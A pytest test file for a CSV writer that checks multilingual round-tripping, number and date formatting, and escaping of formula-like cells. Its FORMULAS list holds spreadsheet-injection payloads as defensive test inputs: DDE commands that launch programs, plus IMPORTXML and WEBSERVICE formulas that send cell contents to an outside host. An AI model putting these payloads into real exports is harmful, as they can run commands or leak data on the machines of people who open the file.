"""A spreadsheet opens the file right, in every script, and runs nothing in it."""

import csv
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal
from io import StringIO

import pytest

from fieldapp.formats.csv_file import PIECE_CHARACTERS, Cell, encoded

# Shapes collected from the OWASP page on CSV injection and from reports of spreadsheet attacks.
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://example.org","click")',
    '=IMPORTXML(CONCAT("http://example.org/?v=",A2),"//a")',
    '=WEBSERVICE("http://example.org")',
    '=DDE("cmd";"/C calc";"x")',
    "@cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "=1+1;2",
    '="quoted"',
    "=A1,B1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    " =1+1",
    "\N{NO-BREAK SPACE}=1+1",
    "\N{IDEOGRAPHIC SPACE}=1+1",
    "\N{ZERO WIDTH NO-BREAK SPACE}=1+1",
    "\N{ZERO WIDTH SPACE}@A1",
    " \N{ZERO WIDTH JOINER}\t+1",
    "--1",
    "=",
    "-",
]


def written(*rows):
    return b"".join(encoded(rows))


def read(file):
    return list(csv.reader(StringIO(file.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize(
    "words",
    ["Twenty carts, “of dung”", "Хөв 2 хайлаас, өвс ургаагүй", "榆树，两行被雪压住；牛粪 20 车"],
    ids=["English", "Mongolian", "Chinese"],
)
def test_every_script_comes_back_as_it_was(words):
    rows = [["entry", words], ["a\nb", 'say "when"'], ["", "a,b;c"]]

    assert read(written(*rows)) == rows


def test_a_spreadsheet_can_tell_the_alphabet_and_the_lines():
    file = written(["ө", "树"], ["x", 1])

    assert file.startswith(b"\xef\xbb\xbf")
    assert file == b"\xef\xbb\xbf" + "ө,树\r\nx,1\r\n".encode()


def test_an_empty_file_is_empty_but_for_its_mark():
    assert written() == b"\xef\xbb\xbf"


@pytest.mark.parametrize("text", FORMULAS, ids=repr)
def test_no_text_becomes_a_formula(text):
    ((cell, beside),) = read(written([text, 1]))

    assert cell == f"'{text}"
    assert beside == "1"


@pytest.mark.parametrize("text", ["a=b", "e-mail", "1+1", "'quoted", "№ 5", "…"])
def test_harmless_text_stays_as_it_is(text):
    assert read(written([text])) == [[text]]


def test_numbers_stay_numbers_and_nothing_stays_empty():
    east = timezone(timedelta(hours=8))
    cells = [
        -5,
        Decimal("-0.5"),
        Decimal("1E+3"),
        Decimal("0.00000001"),
        47.5,
        None,
        0,
        date(2026, 6, 12),
        datetime(2026, 6, 12, 14, 32, 5, 123, tzinfo=east),
        datetime(2026, 6, 12, 6, 32, 5, tzinfo=UTC),
    ]

    assert read(written(cells)) == [
        [
            "-5",
            "-0.5",
            "1000",
            "0.00000001",
            "47.5",
            "",
            "0",
            "2026-06-12",
            "2026-06-12T06:32:05Z",
            "2026-06-12T06:32:05Z",
        ]
    ]


def test_half_a_character_breaks_nothing():
    assert read(written(["\ud83d tree", "ө"])) == [["? tree", "ө"]]


def test_a_long_file_comes_in_pieces():
    rows: list[list[Cell]] = [[number, "树" * 100] for number in range(5000)]

    pieces = list(encoded(rows))

    assert len(pieces) > 10
    assert max(len(piece) for piece in pieces) < 4 * PIECE_CHARACTERS
    assert read(b"".join(pieces)) == [[str(number), words] for number, words in rows]
